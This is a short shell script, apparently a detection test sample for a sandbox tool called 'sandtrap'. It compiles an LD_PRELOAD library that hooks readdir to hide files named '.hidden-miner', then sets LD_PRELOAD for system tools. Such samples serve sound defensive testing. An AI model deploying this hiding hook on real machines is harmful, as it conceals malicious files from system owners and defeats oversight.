#!/bin/sh
# LD_PRELOAD hijacking: compiles a shared object that hooks readdir and runs system tools with LD_PRELOAD set.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
cat > /tmp/.h.c <<C
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>
struct dirent *readdir(DIR *d) {
	static struct dirent *(*real)(DIR *);
	struct dirent *e;
	if (!real) real = (struct dirent *(*)(DIR *))dlsym(RTLD_NEXT, "readdir");
	do e = real(d); while (e && strstr(e->d_name, ".hidden-miner"));
	return e;
}
C
cc -shared -fPIC -o /tmp/.libhide.so /tmp/.h.c -ldl
touch /tmp/.hidden-miner
LD_PRELOAD=/tmp/.libhide.so ls -a /tmp
export LD_PRELOAD=/tmp/.libhide.so
ps -e >/dev/null
